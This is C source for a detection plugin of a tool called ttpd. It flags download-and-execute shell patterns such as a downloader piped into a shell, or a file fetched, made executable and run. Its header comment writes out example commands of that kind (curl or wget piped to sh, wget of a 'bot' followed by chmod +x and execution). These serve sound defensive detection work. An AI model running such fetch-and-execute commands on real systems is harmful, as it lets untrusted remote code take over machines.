/*
 * dlexec: an example ttpd lifter, built out of tree against the installed
 * SDK (see README and ttpd-plugin(3), section TUTORIAL).
 *
 * It tags download-and-execute in shell commands:
 *
 *   lifter:dlexec_pipe   a downloader piped into a shell, or a shell
 *                        running a downloader's output:
 *                          curl -fsSL http://x/i.sh | sh
 *                          wget -qO- http://x/i.sh | sudo bash
 *                          bash -c "$(curl -fsSL http://x/i.sh)"
 *                          bash <(wget -qO- http://x/i.sh)
 *   lifter:dlexec_chain  a file downloaded, made executable and run:
 *                          wget http://x/bot -O .b; chmod +x .b; ./.b
 *                        within one command (command events), or across
 *                        the commands of a session (session events: only
 *                        chains that span several commands, the others
 *                        are tagged on their own command event).
 *
 * Each rule's `match` may list `downloaders` and `shells` (command names);
 * absent lists take the defaults below.  Config key `max_commands`
 * (default 1000) bounds how many commands of a session are examined.
 *
 * The command-line parser is deliberately small: words, '…' and "…"
 * quoting, backslash escapes, and the operators | || && ; & and newline.
 * It is not a shell; it only has to find the shapes above.
 */
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <ttpd/lifter.h>

#define DLEXEC_VERSION "1.0.0"
#define MAX_LIST 32
#define MAX_NAME 64
#define DEFAULT_MAX_COMMANDS 1000

static const char *const default_downloaders[] = { "curl", "wget", "fetch",
	"ftp", "tftp", NULL };
static const char *const default_shells[] = { "sh", "bash", "dash", "zsh",
	"ksh", "ash", "mksh", NULL };

/* A rule's compiled match. */
struct dl_rule {
	int chain;			/* dlexec_chain, else dlexec_pipe */
	char downloaders[MAX_LIST][MAX_NAME];
	size_t ndownloaders;
	char shells[MAX_LIST][MAX_NAME];
	size_t nshells;
};

struct dlexec {
	const ttpd_host *h;
	ttpd_ctx *ctx;
	int64_t max_commands;
};

/* One simple command of a command line. */
struct stage {
	char **argv;
	size_t argc, cap;
	int piped;		/* its stdin is the previous stage's stdout */
	size_t command;		/* index of the command it came from */
};

struct parsed {
	struct stage *v;
	size_t n, cap;
	char **words;		/* every word, for freeing */
	size_t nwords, capwords;
};

/* The array with room for one more element (NULL: out of memory).
 * Arrays double, so an attacker's megabyte of words costs linear time. */
static void *
grow(void *array, size_t n, size_t *cap, size_t elem)
{
	void *nv;
	size_t ncap;

	if (n < *cap)
		return array;
	ncap = *cap == 0 ? 8 : *cap * 2;
	if (ncap > SIZE_MAX / elem || (nv = realloc(array, ncap * elem)) ==
	    NULL)
		return NULL;
	*cap = ncap;
	return nv;
}

/* --- parsing -------------------------------------------------------------- */

static int
push_word(struct parsed *p, struct stage *st, const char *w, size_t len)
{
	char *s, **nw, **na;

	if ((s = malloc(len + 1)) == NULL)
		return -1;
	memcpy(s, w, len);
	s[len] = '\0';
	if ((nw = grow(p->words, p->nwords, &p->capwords,
	    sizeof *p->words)) == NULL) {
		free(s);
		return -1;
	}
	p->words = nw;
	p->words[p->nwords++] = s;
	if ((na = grow(st->argv, st->argc, &st->cap, sizeof *st->argv)) ==
	    NULL)
		return -1;
	st->argv = na;
	st->argv[st->argc++] = s;
	return 0;
}

static int
end_stage(struct parsed *p, struct stage *st, int next_piped)
{
	struct stage *nv;

	if (st->argc > 0) {
		if ((nv = grow(p->v, p->n, &p->cap, sizeof *p->v)) == NULL)
			return -1;
		p->v = nv;
		p->v[p->n++] = *st;
	} else
		free(st->argv);
	st->argv = NULL;
	st->argc = 0;
	st->cap = 0;
	st->piped = next_piped;
	return 0;
}

/* Split text[0..len) into stages appended to p.  -1 only on ENOMEM. */
static int
parse_line(struct parsed *p, const char *text, size_t len, size_t command)
{
	struct stage st = { NULL, 0, 0, 0, command };
	char *word;
	size_t i = 0, wl = 0;
	int in_word = 0, rc = 0;

	if ((word = malloc(len + 1)) == NULL)
		return -1;
	while (i <= len && rc == 0) {
		char c = i < len ? text[i] : '\n';

		if (c == '\'' || c == '"') {
			char q = c;

			in_word = 1;
			for (i++; i < len && text[i] != q; i++) {
				if (q == '"' && text[i] == '\\' && i + 1 < len)
					i++;
				word[wl++] = text[i];
			}
			i++;
			continue;
		}
		if (c == '\\' && i + 1 < len) {
			word[wl++] = text[i + 1];
			in_word = 1;
			i += 2;
			continue;
		}
		if (c == ' ' || c == '\t' || c == '\n' || c == '\r' ||
		    c == '|' || c == ';' || c == '&' || c == '\0') {
			if (in_word)
				rc = push_word(p, &st, word, wl);
			in_word = 0;
			wl = 0;
			if (rc != 0)
				break;
			if (c == '|' && i + 1 < len && text[i + 1] == '|') {
				rc = end_stage(p, &st, 0);	/* || */
				i += 2;
			} else if (c == '|') {
				rc = end_stage(p, &st, 1);
				i++;
			} else if (c == '&' && i + 1 < len &&
			    text[i + 1] == '&') {
				rc = end_stage(p, &st, 0);
				i += 2;
			} else if (c == ';' || c == '&' || c == '\n' ||
			    c == '\0') {
				rc = end_stage(p, &st, 0);
				i++;
			} else
				i++;
			continue;
		}
		word[wl++] = c;
		in_word = 1;
		i++;
	}
	if (rc == 0 && in_word)	/* an unterminated quote ends the line */
		rc = push_word(p, &st, word, wl);
	if (rc == 0)
		rc = end_stage(p, &st, 0);
	else
		free(st.argv);
	free(word);
	return rc;
}

static void
parsed_free(struct parsed *p)
{
	size_t i;

	for (i = 0; i < p->n; i++)
		free(p->v[i].argv);
	for (i = 0; i < p->nwords; i++)
		free(p->words[i]);
	free(p->v);
	free(p->words);
	memset(p, 0, sizeof *p);
}

/* --- shapes --------------------------------------------------------------- */

static const char *
base_name(const char *path)
{
	const char *slash = strrchr(path, '/');

	return slash != NULL ? slash + 1 : path;
}

/* Index of the command word, past sudo, env, nohup, exec, busybox and
 * VAR=value assignments; argc when there is none. */
static size_t
command_word(const struct stage *st)
{
	static const char *const wrappers[] = { "sudo", "env", "nohup", "exec",
		"busybox", "command", NULL };
	size_t i = 0, k;

	while (i < st->argc) {
		const char *w = base_name(st->argv[i]);
		int wrapped = 0;

		if (strchr(st->argv[i], '=') != NULL && st->argv[i][0] != '=' &&
		    st->argv[i][0] != '-') {
			i++;
			continue;
		}
		for (k = 0; wrappers[k] != NULL; k++)
			if (strcmp(w, wrappers[k]) == 0)
				wrapped = 1;
		if (!wrapped)
			break;
		/* skip the wrapper and its options */
		for (i++; i < st->argc && st->argv[i][0] == '-'; i++)
			continue;
	}
	return i;
}

static int
in_list(const char *name, const char list[][MAX_NAME], size_t n)
{
	size_t i;

	for (i = 0; i < n; i++)
		if (strcmp(name, list[i]) == 0)
			return 1;
	return 0;
}

static const char *
stage_command(const struct stage *st)
{
	size_t i = command_word(st);

	return i < st->argc ? base_name(st->argv[i]) : NULL;
}

/* Does a shell stage run a downloader's output through $(...), `...` or
 * <(...)? */
static const char *
shell_runs_download(const struct dl_rule *r, const struct stage *st)
{
	size_t i, k;

	for (i = command_word(st) + 1; i < st->argc; i++) {
		const char *a = st->argv[i];

		if (strstr(a, "$(") == NULL && strstr(a, "<(") == NULL &&
		    strchr(a, '`') == NULL)
			continue;
		for (k = 0; k < r->ndownloaders; k++) {
			const char *d = strstr(a, r->downloaders[k]);
			size_t dl = strlen(r->downloaders[k]);

			if (d != NULL && (d == a || d[-1] == '(' ||
			    d[-1] == '`' || d[-1] == ' ' || d[-1] == '/') &&
			    (d[dl] == ' ' || d[dl] == '\0'))
				return r->downloaders[k];
		}
	}
	return NULL;
}

/* A downloader piped into a shell; names in *dl and *sh. */
static int
find_pipe(const struct dl_rule *r, const struct parsed *p, const char **dl,
    const char **sh)
{
	size_t i, j;

	for (i = 0; i < p->n; i++) {
		const char *c = stage_command(&p->v[i]);

		if (c == NULL)
			continue;
		if (in_list(c, r->shells, r->nshells) &&
		    (*dl = shell_runs_download(r, &p->v[i])) != NULL) {
			*sh = c;
			return 1;
		}
		/* the input is "<(" inside a word, handled above; here: | */
		if (!in_list(c, r->downloaders,
		    r->ndownloaders))
			continue;
		for (j = i + 1; j < p->n && p->v[j].piped; j++) {
			const char *s = stage_command(&p->v[j]);

			if (s != NULL && in_list(s, r->shells,
			    r->nshells)) {
				*dl = c;
				*sh = s;
				return 1;
			}
		}
	}
	return 0;
}

/* The file a download stage writes, or NULL (stdout, or unknown). */
static const char *
download_target(const struct stage *st, const char *cmd)
{
	size_t i = command_word(st) + 1;
	const char *url = NULL, *out = NULL;
	int remote_name = strcmp(cmd, "wget") == 0;

	for (; i < st->argc; i++) {
		const char *a = st->argv[i];

		if ((strcmp(a, "-O") == 0 && strcmp(cmd, "wget") == 0) ||
		    strcmp(a, "-o") == 0 || strcmp(a, "--output") == 0 ||
		    strcmp(a, "--output-document") == 0) {
			if (i + 1 < st->argc)
				out = st->argv[++i];
		} else if (strncmp(a, "--output-document=", 18) == 0)
			out = a + 18;
		else if (strcmp(cmd, "wget") == 0 && strncmp(a, "-O", 2) == 0 &&
		    a[2] != '\0' && a[1] != '-')
			out = a + 2;
		else if (strcmp(cmd, "curl") == 0 && (strcmp(a, "-O") == 0 ||
		    strcmp(a, "--remote-name") == 0))
			remote_name = 1;
		else if (a[0] != '-' && strchr(a, '/') != NULL)
			url = a;
	}
	if (out != NULL)
		return strcmp(out, "-") == 0 ? NULL : base_name(out);
	if (remote_name && url != NULL) {
		const char *b = base_name(url);

		return b[0] != '\0' ? b : NULL;
	}
	return NULL;
}

/* chmod with an execute bit: +x, u+x, a+rx, 755, 0700 ... */
static int
chmod_adds_x(const char *mode)
{
	size_t n = strlen(mode);

	if (strchr(mode, '+') != NULL && strchr(mode, 'x') != NULL)
		return 1;
	if (n >= 3 && n <= 4 && strspn(mode, "01234567") == n)
		return ((mode[n - 3] - '0') & 1) != 0;
	return 0;
}

struct chain {
	char file[256];
	size_t download, chmod, exec;	/* stage indexes */
	int have_download, have_chmod;
};

/* A download, a chmod +x and an execution of the same file, in order. */
static int
find_chain(const struct dl_rule *r, const struct parsed *p,
    int need_several_commands, struct chain *out)
{
	struct chain ch[8];
	size_t nch = 0, i, k, a;

	for (i = 0; i < p->n; i++) {
		const struct stage *st = &p->v[i];
		const char *c = stage_command(st), *f;
		size_t w = command_word(st);

		if (c == NULL)
			continue;
		if (in_list(c, r->downloaders,
		    r->ndownloaders) && (f = download_target(st, c)) != NULL) {
			if (nch == sizeof ch / sizeof ch[0])
				continue;
			memset(&ch[nch], 0, sizeof ch[nch]);
			snprintf(ch[nch].file, sizeof ch[nch].file, "%s", f);
			ch[nch].download = i;
			ch[nch].have_download = 1;
			nch++;
			continue;
		}
		if (strcmp(c, "chmod") == 0) {
			for (a = w + 1; a < st->argc && st->argv[a][0] == '-';
			    a++)
				continue;
			if (a >= st->argc || !chmod_adds_x(st->argv[a]))
				continue;
			for (a++; a < st->argc; a++)
				for (k = 0; k < nch; k++)
					if (strcmp(base_name(st->argv[a]),
					    ch[k].file) == 0) {
						ch[k].chmod = i;
						ch[k].have_chmod = 1;
					}
			continue;
		}
		/* run by path: ./x, /tmp/x, tmp/x */
		if (strchr(st->argv[w], '/') == NULL)
			continue;
		for (k = 0; k < nch; k++) {
			if (!ch[k].have_chmod || strcmp(c, ch[k].file) != 0)
				continue;
			ch[k].exec = i;
			if (need_several_commands &&
			    p->v[ch[k].download].command == st->command &&
			    p->v[ch[k].chmod].command == st->command)
				continue;
			*out = ch[k];
			return 1;
		}
	}
	return 0;
}

/* --- the lifter ----------------------------------------------------------- */

static int
dlexec_init(const ttpd_host *h, ttpd_ctx *ctx, void **state, ttpd_err *err)
{
	struct dlexec *d;
	int64_t max = DEFAULT_MAX_COMMANDS;
	int rc;

	rc = h->config_int(ctx, "max_commands", &max);
	if (rc == TTPD_EINVAL || max < 1) {
		ttpd_err_set(err, "max_commands must be a positive integer");
		return TTPD_EINVAL;
	}
	if ((d = calloc(1, sizeof *d)) == NULL) {
		ttpd_err_set(err, "out of memory");
		return TTPD_ENOMEM;
	}
	d->h = h;
	d->ctx = ctx;
	d->max_commands = max;
	*state = d;
	return TTPD_OK;
}

/* match.<key>: a list of command names, or the defaults. */
static int
read_names(const ttpd_host *h, const ttpd_rule *rule, const char *key,
    const char *const *defaults, char list[][MAX_NAME], size_t *n,
    ttpd_err *err)
{
	const ttpd_value *v = h->object_get(rule->match, key);
	char msg[160];
	size_t i;

	*n = 0;
	if (v == NULL) {
		for (i = 0; defaults[i] != NULL; i++)
			snprintf(list[(*n)++], MAX_NAME, "%s", defaults[i]);
		return TTPD_OK;
	}
	if (h->value_type(v) != TTPD_VT_ARRAY || h->array_size(v) == 0 ||
	    h->array_size(v) > MAX_LIST) {
		snprintf(msg, sizeof msg, "match.%s must be a list of 1 to %d "
		    "command names", key, MAX_LIST);
		ttpd_err_set(err, msg);
		return TTPD_EINVAL;
	}
	for (i = 0; i < h->array_size(v); i++) {
		const char *s;
		size_t len;

		if (h->get_string(h->array_get(v, i), &s, &len) != TTPD_OK ||
		    len == 0 || len >= MAX_NAME || strlen(s) != len ||
		    strpbrk(s, "/ \t") != NULL) {
			snprintf(msg, sizeof msg, "match.%s[%zu] is not a "
			    "command name", key, i);
			ttpd_err_set(err, msg);
			return TTPD_EINVAL;
		}
		snprintf(list[(*n)++], MAX_NAME, "%s", s);
	}
	return TTPD_OK;
}

static int
dlexec_rule_prepare(void *state, const ttpd_rule *rule, void **prepared,
    ttpd_err *err)
{
	struct dlexec *d = state;
	struct dl_rule *r;
	char msg[160];

	if ((r = calloc(1, sizeof *r)) == NULL) {
		ttpd_err_set(err, "out of memory");
		return TTPD_ENOMEM;
	}
	if (strcmp(rule->kind, "lifter:dlexec_chain") == 0)
		r->chain = 1;
	else if (strcmp(rule->kind, "lifter:dlexec_pipe") != 0) {
		snprintf(msg, sizeof msg, "unknown match.kind '%s' (dlexec "
		    "knows lifter:dlexec_pipe and lifter:dlexec_chain)",
		    rule->kind);
		ttpd_err_set(err, msg);
		free(r);
		return TTPD_EINVAL;
	}
	if (read_names(d->h, rule, "downloaders", default_downloaders,
	    r->downloaders, &r->ndownloaders, err) != TTPD_OK ||
	    read_names(d->h, rule, "shells", default_shells, r->shells,
	    &r->nshells, err) != TTPD_OK) {
		free(r);
		return TTPD_EINVAL;
	}
	*prepared = r;
	return TTPD_OK;
}

static void
dlexec_rule_release(void *state, const ttpd_rule *rule, void *prepared)
{
	(void)state;
	(void)rule;
	free(prepared);
}

/* The text of command i of a session payload (a string or an object with
 * command_text); NULL when it has none. */
static const char *
session_command(const ttpd_host *h, const ttpd_value *cmds, size_t i,
    size_t *len)
{
	const ttpd_value *c = h->array_get(cmds, i);
	const char *s;

	if (h->value_type(c) == TTPD_VT_OBJECT)
		c = h->object_get(c, "command_text");
	if (h->get_string(c, &s, len) != TTPD_OK)
		return NULL;
	return s;
}

static ttpd_value *
str(const ttpd_host *h, ttpd_sink *sink, const char *s)
{
	return h->new_string(sink, s, strlen(s));
}

/* Rebuild a stage as text for the evidence. */
static ttpd_value *
stage_text(const ttpd_host *h, ttpd_sink *sink, const struct stage *st)
{
	char buf[1024];
	size_t used = 0, i;

	buf[0] = '\0';
	for (i = 0; i < st->argc && used < sizeof buf - 1; i++)
		used += (size_t)snprintf(buf + used, sizeof buf - used, "%s%s",
		    i > 0 ? " " : "", st->argv[i]);
	if (used >= sizeof buf)
		used = sizeof buf - 1;
	/* a cut may split a character: back up to a boundary */
	while (used > 0 && ((unsigned char)buf[used] & 0xc0) == 0x80)
		used--;
	return h->new_string(sink, buf, used);
}

static int
dlexec_handle(void *state, const ttpd_event *ev, ttpd_sink *sink,
    ttpd_err *err)
{
	struct dlexec *d = state;
	const ttpd_host *h = d->h;
	const ttpd_rule *const *rules;
	struct parsed p;
	size_t nrules, i, len;
	int session = strcmp(ev->source_kind, "session") == 0, rc = TTPD_OK;

	rules = h->rules_for(sink, &nrules);
	if (nrules == 0)
		return TTPD_OK;
	memset(&p, 0, sizeof p);
	if (session) {
		const ttpd_value *cmds = h->object_get(ev->payload, "commands");
		size_t n = h->array_size(cmds);

		if (n > (size_t)d->max_commands)
			n = (size_t)d->max_commands;
		for (i = 0; i < n && rc == TTPD_OK; i++) {
			const char *s = session_command(h, cmds, i, &len);

			if (s != NULL && parse_line(&p, s, len, i) != 0)
				rc = TTPD_ENOMEM;
		}
	} else {
		const char *s;

		if (h->get_string(h->object_get(ev->payload, "command_text"),
		    &s, &len) == TTPD_OK && parse_line(&p, s, len, 0) != 0)
			rc = TTPD_ENOMEM;
	}
	if (rc != TTPD_OK) {
		parsed_free(&p);
		ttpd_err_set(err, "out of memory parsing the commands");
		return rc;
	}
	for (i = 0; i < nrules; i++) {
		const struct dl_rule *r = rules[i]->prepared;
		ttpd_value *evidence;
		const char *dl, *sh;
		struct chain c;

		if (r == NULL)
			continue;
		if (!r->chain && !session && find_pipe(r, &p, &dl, &sh)) {
			evidence = h->evidence_from_fields(sink, rules[i]);
			h->object_set(evidence, "downloader", str(h, sink, dl));
			h->object_set(evidence, "shell", str(h, sink, sh));
			h->emit(sink, rules[i], TTPD_EMIT_ALL, 1.0, evidence, 0);
		} else if (r->chain && find_chain(r, &p, session, &c)) {
			evidence = h->evidence_from_fields(sink, rules[i]);
			h->object_set(evidence, "file", str(h, sink, c.file));
			h->object_set(evidence, "download", stage_text(h, sink,
			    &p.v[c.download]));
			h->object_set(evidence, "chmod", stage_text(h, sink,
			    &p.v[c.chmod]));
			h->object_set(evidence, "execute", stage_text(h, sink,
			    &p.v[c.exec]));
			h->emit(sink, rules[i], TTPD_EMIT_ALL, 1.0, evidence, 0);
		}
	}
	parsed_free(&p);
	return TTPD_OK;
}

static void
dlexec_destroy(void *state)
{
	free(state);
}

static const char *const dlexec_kinds[] = { "command", "session", NULL };

static const ttpd_config_key dlexec_keys[] = {
	{ "max_commands", TTPD_CFG_INT, 0,
	    "commands of a session examined at most (default 1000)" },
	{ NULL, 0, 0, NULL }
};

TTPD_LIFTER_DEFINE(
    .name = "dlexec",
    .version = DLEXEC_VERSION,
    .description = "download-and-execute in shell commands (curl | sh, "
	"wget; chmod +x; ./x)",
    .source_kinds = dlexec_kinds,
    .config_keys = dlexec_keys,
    .init = dlexec_init,
    .rule_prepare = dlexec_rule_prepare,
    .rule_release = dlexec_rule_release,
    .handle = dlexec_handle,
    .destroy = dlexec_destroy)
